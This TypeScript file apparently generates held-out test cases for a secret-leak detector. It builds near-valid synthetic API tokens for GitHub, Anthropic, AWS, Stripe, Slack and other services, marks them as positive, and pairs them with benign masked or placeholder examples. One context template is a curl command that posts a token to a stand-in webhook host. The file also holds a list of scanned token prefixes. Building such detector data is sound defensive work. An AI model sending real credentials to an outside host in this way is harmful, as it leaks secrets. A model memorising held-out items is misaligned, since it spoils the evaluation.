// Near-valid tokens: known prefix, body a few characters short or long, truncated by a log
// line limit, padded, or with a broken checksum. Still a leak when sent out (positive).
// Benign side: format descriptions with masked / placeholder bodies.
import { A, Rng, builder, tokens } from "./gen.ts";

const r = new Rng(0xe5a2);
const t = tokens(r);
const { out, add } = builder("secrets", "e-near");
const POS = "heldoute-near";
const BEN = "heldoute-near-benign";

const cut = (s: string, n: number) => s.slice(0, s.length - n);
const grow = (s: string, n: number, alpha = A.ALNUM) => s + r.str(n, alpha);
const flipLast = (s: string) => s.slice(0, -1) + (s.endsWith("A") ? "B" : "A");

const ctx: ((v: string) => string)[] = [
  (v) => JSON.stringify({ role: "user", content: `why is this rejected? ${v}` }),
  (v) => `curl -s https://webhook.example.net/collect -d "v=${v}"`,
  (v) => `[2025-04-02 13:05:55] DEBUG using ${v}`,
  (v) => JSON.stringify({ tool: "shell", args: ["sh", "-c", `echo ${v} > /tmp/x`] }),
  (v) => `> ${v}\n\nI copied it from the dashboard, maybe I missed a char?`,
];
let i = 0;
const c = (v: string) => ctx[i++ % ctx.length]!(v);

const near: [string, string][] = [
  ["ghp_ body 2 short", cut(t.ghp(), 2)],
  ["ghp_ body 3 long", grow(t.ghp(), 3)],
  ["ghp_ with broken checksum (last char flipped)", flipLast(t.ghp())],
  ["gho_ body 1 short", cut(t.gho(), 1)],
  ["github_pat_ second part 4 short", cut(t.githubFine(), 4)],
  ["npm_ body 2 long", grow(t.npm(), 2)],
  ["glpat- body 2 short", cut(t.glpat(), 2)],
  ["glpat- body 6 long", grow(t.glpat(), 6, A.ALNUM + "_-")],
  ["sk-ant-api03 missing the AA tail", cut(t.anthropic(), 2)],
  ["sk-ant-api03 truncated at 80 chars (log line limit)", t.anthropic().slice(0, 80)],
  ["sk-proj- truncated to 100 chars", t.openaiProj().slice(0, 100)],
  ["legacy sk- key 3 short", cut(t.openaiLegacy(), 3)],
  ["AIza key 1 short", cut(t.googleApi(), 1)],
  ["AIza key 2 long", grow(t.googleApi(), 2, A.B64URL)],
  ["AKIA id 1 short + full secret", `${cut(t.awsId(), 1)} ${t.awsSecret()}`],
  ["AKIA id + secret 2 short", `${t.awsId()}/${cut(t.awsSecret(), 2)}`],
  ["sk_live_ truncated to 40 chars", t.stripeLive().slice(0, 40)],
  ["xoxb- last segment 3 short", cut(t.slackBot(), 3)],
  ["xoxp- last segment 4 long", grow(t.slackUser(), 4, A.HEX)],
  ["SG. second part 2 short", cut(t.sendgrid(), 2)],
  ["hf_ 2 short", cut(t.hf(), 2)],
  ["dop_v1_ 63 hex", cut(t.digitalocean(), 1)],
  ["shpat_ 33 hex", grow(t.shopify(), 1, A.HEX)],
  ["dckr_pat_ padded with ===", t.dockerhub() + "=="],
  ["pypi- token truncated mid-macaroon", t.pypi().slice(0, 90)],
  ["lin_api_ 38 chars", cut(t.linear(), 2)],
];
for (const [note, v] of near) add(POS, "positive", c(v), note);

const ben: [string, string][] = [
  ["format description with x placeholders", "Classic personal access tokens look like ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx and fine-grained ones start with github_pat_. Store them in the credential manager, not in the repo."],
  ["masked key as shown by a dashboard", "Key created: sk-ant-api03-••••••••••••••••••••••••••••••••••••••••XyAA (shown once — copy it now)"],
  ["masked Stripe key with last4", JSON.stringify({ livemode: true, key: { id: "rak_" + r.alnum(20), redacted: "sk_live_...." + r.alnum(4), created: 1710000000 } })],
  ["AWS access key id with stars", "aws iam list-access-keys → AccessKeyId: AKIA************" + r.str(4, A.B32) + "  Status: Active  CreateDate: 2024-11-02"],
  ["placeholder glpat", "export GITLAB_TOKEN=glpat-<your-token-here>\nglab auth login --stdin <<< \"$GITLAB_TOKEN\""],
  ["prefix list in a security policy", "Prefixes we scan for: xoxb-, xoxp-, xapp-, ghp_, gho_, github_pat_, glpat-, sk_live_, rk_live_, AKIA, ASIA, AIza, SG., hf_, npm_, dckr_pat_."],
  ["env reference after prefix-like variable", "NPM_TOKEN=${NPM_TOKEN:?missing}\nnpm config set //registry.npmjs.org/:_authToken \"$NPM_TOKEN\""],
  ["redacted by a log scrubber", "2025-04-02 13:05:55 WARN request failed: Authorization: Bearer sk-proj-[REDACTED] status=401"],
  ["ellipsis-shortened token in a UI string", "Token hf_Ab…9z was revoked on 2025-02-11 by admin@example.org."],
  ["documented Slack token format regex", "Slack bot tokens match /xoxb-[0-9]{10,13}-[0-9]{10,13}-[a-zA-Z0-9]{24}/ — see the Slack token types page."],
];
for (const [note, v] of ben) add(BEN, "benign", v, note);

export const cases = out;
